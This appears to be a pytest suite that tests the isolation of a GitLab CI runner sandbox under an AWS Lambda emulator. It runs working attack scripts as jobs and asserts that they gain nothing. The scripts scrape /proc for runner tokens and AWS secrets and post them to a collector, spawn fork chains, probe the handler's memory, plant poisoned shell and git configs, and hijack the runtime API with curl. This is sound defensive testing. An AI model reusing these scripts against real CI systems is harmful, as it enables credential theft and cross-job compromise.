"""What a hostile job gains in a sandbox of the real image, under AWS's runtime emulator: nothing.

Each attack is one job; the next job of the same project, which gets the same warm sandbox where
that is still clean, looks for what is left. A collector outside gets whatever an attack gains.
"""

import json
from collections.abc import Iterator

import pytest

from tests.e2e.images import Images, needs_gitlab_runner
from tests.e2e.lambda_site import Collector, LambdaSite, lambda_site

# Reads what it can of every process but its own, and sends what looks like a secret.
THIEF = r"""
import os, re, sys, urllib.request
url = sys.argv[1]
own = set(re.findall(rb"gl(?:cbt|rt)-[\w.-]+", repr(dict(os.environ)).encode()))
def send(text):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=text.encode()), timeout=2)
    except OSError:
        pass
def look():
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        for what in ("environ", "cmdline", "maps"):
            try:
                found = open(f"/proc/{name}/{what}", "rb").read(1 << 20)
            except OSError:
                continue
            for secret in set(re.findall(rb"gl(?:cbt|rt)-[\w.-]+|AWS_SECRET[^\0]*", found)) - own:
                send(f"{what} of {name}: {secret!r}")
"""
# Each link of the chain ends as soon as it has started the next.
CHAIN = (
    THIEF
    + r"""
import time
while True:
    if os.fork():
        os._exit(0)
    os.setsid()
    look()
    time.sleep(0.0005)
"""
)
# The handler's own process: the child of process 1.
SPY = r"""
import os
for pid in ("1", *(n for n in os.listdir("/proc") if n.isdigit())):
    try:
        line = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if pid != "1" and b"awslambdaric" not in line and b"gitlab-runner" not in line:
        continue
    for what in ("mem", "environ", "maps", "fd", "fd/2", "fd/3", "root", "cwd", "map_files"):
        path = f"/proc/{pid}/{what}"
        try:
            if what == "mem":
                open(path, "rb").close()
            elif what in ("environ", "maps"):
                assert open(path, "rb").read(1)
            elif what in ("fd", "map_files", "root", "cwd"):
                assert os.listdir(path) is not None
            else:
                open(path, "wb").close()
        except (OSError, AssertionError) as error:
            print("denied", type(error).__name__, line.split(b"\0")[0].decode(), what)
        else:
            print("GAINED", line.split(b"\0")[0].decode(), what)
print("LOOKED")
print("AWS", sorted(k for k in os.environ if k.startswith(("AWS_", "FLEET_"))))
"""
# All that outlives a job: processes, files, memory, queues.
LITTER = r"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None)
for key in range(1000, 1004):
    libc.shmget(key, 4096, 0o1666)
    libc.msgget(key, 0o1666)
    libc.semget(key, 1, 0o1666)
for folder in ("/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp"):
    try:
        os.close(os.open(f"{folder}/litter", os.O_CREAT | os.O_RDWR))
    except OSError as error:
        print(folder, error)
os.makedirs("/tmp/.config/git"); open("/tmp/.gitconfig", "w").write("[alias]\n  x = !sh\n")
open("/tmp/.bash_profile", "a").write("echo POISONED\n")
open("/tmp/.bashrc", "w").write("echo POISONED\n")
for _ in range(20):
    subprocess.Popen(["setsid", "sleep", "600"], stdin=-3, stdout=-3, stderr=-3)
"""
LEFT = r"""
ps -eo pid,ppid,args
find /tmp /dev/mqueue -name litter -o -name .gitconfig | sed 's/^/FOUND /'
awk 'FNR > 1 {print "FOUND", FILENAME, $2}' /proc/sysvipc/*
git config --global --list 2>/dev/null | sed 's/^/FOUND /' || true
pgrep -a sleep | sed 's/^/FOUND /' || true
echo LOOKED
"""
SEVENTEEN = r"""
import os
for depth in range(17):
    os.mkdir("a" * 250); os.chdir("a" * 250)
open("f", "w"); os.chmod(".", 0)
"""
LEVELS = r"""
import os
for depth in range(1500):
    os.mkdir("d"); os.chdir("d")
os.chmod(".", 0)
"""


@pytest.fixture(scope="module")
def site(images: Images) -> Iterator[LambdaSite]:
    with lambda_site(images.emulated) as up:
        yield up


@pytest.fixture
def collector(site: LambdaSite) -> Iterator[Collector]:
    with Collector(site.laptop.host) as listening:
        yield listening


def attack(script: str, then: str, *, python: str = "") -> tuple[str, dict[str, str]]:
    """A pipeline of two jobs, one after the other, and the attack's program as a file."""
    stages = {"attack": script, "next": then}
    jobs = {
        name: {"stage": name, "tags": ["lambda"], "script": [text], "allow_failure": True}
        for name, text in stages.items()
    }
    return json.dumps({"stages": list(stages), **jobs}), {"attack.py": python}


def test_a_fork_chain_ends_with_its_job_and_reads_nothing_of_the_next(
    site: LambdaSite, collector: Collector
) -> None:
    start = f"setsid nohup python3 attack.py {collector.url} >/dev/null 2>&1 & sleep 2"
    jobs = site.run(*attack(start, "sleep 2; ps -eo args; echo DONE", python=CHAIN))
    assert [job.status for job in jobs.values()] == ["success", "success"]
    assert "DONE" in jobs["next"].log
    assert "attack.py" not in jobs["next"].log.partition("DONE")[0].rpartition("ps -eo args")[2]
    assert collector.gained == []


def test_the_handler_gitlab_runner_and_the_emulator_are_closed_to_a_job(
    site: LambdaSite, images: Images
) -> None:
    needs_gitlab_runner(images)  # a job may read a program of Python, and so its memory
    jobs = site.run(*attack("python3 attack.py", "true", python=SPY))
    log = jobs["attack"].log
    assert "LOOKED" in log
    assert "GAINED" not in log
    assert "AWS []" in log
    assert "denied PermissionError" in log


def test_nothing_that_a_job_leaves_is_there_for_the_next(site: LambdaSite) -> None:
    jobs = site.run(*attack("python3 attack.py", LEFT, python=LITTER))
    assert jobs["attack"].status == "success"
    log = jobs["next"].log
    assert "LOOKED" in log
    assert "FOUND" not in log.rpartition("LOOKED")[0].rpartition("collapsed multi-line")[2]
    assert "POISONED" not in log


@pytest.mark.parametrize("poison", [SEVENTEEN, LEVELS], ids=["long names", "many levels"])
def test_a_poisoned_tree_costs_the_next_job_nothing(site: LambdaSite, poison: str) -> None:
    jobs = site.run(*attack("python3 attack.py", "ls -A /tmp; echo DONE", python=poison))
    assert [job.status for job in jobs.values()] == ["success", "success"]
    row = site.row(jobs["next"])
    assert row.job.attempts_used == 1


def test_a_job_that_takes_the_next_invocation_gains_nothing_and_costs_no_attempt(
    site: LambdaSite, collector: Collector
) -> None:
    """The runtime API is open to everything in a sandbox: AWS closes it to no process."""
    ask = (
        "for port in 9001 $(seq 9000 9010); do (curl -s -i -m 60"
        " http://127.0.0.1:$port/2018-06-01/runtime/invocation/next"
        f" | curl -s -m 5 --data-binary @- {collector.url}) & done; sleep 2"
    )
    jobs = site.run(*attack(ask, "echo DONE"))
    assert jobs["next"].status == "success"
    assert site.row(jobs["next"]).job.attempts_used == 1
    # The emulator answers with the attack's own event again, which names no secret.
    own = site.row(jobs["attack"]).job.runner_id
    answers = [text for text in collector.gained if text.startswith("HTTP/1.1 200")]
    events = [json.loads(text.rpartition("\r\n\r\n")[2]) for text in answers]
    assert {event.pop("runner_id") for event in events if "runner_id" in event} <= {own}
    assert {name for event in events for name in event} <= {"mailbox", "until", "project"}
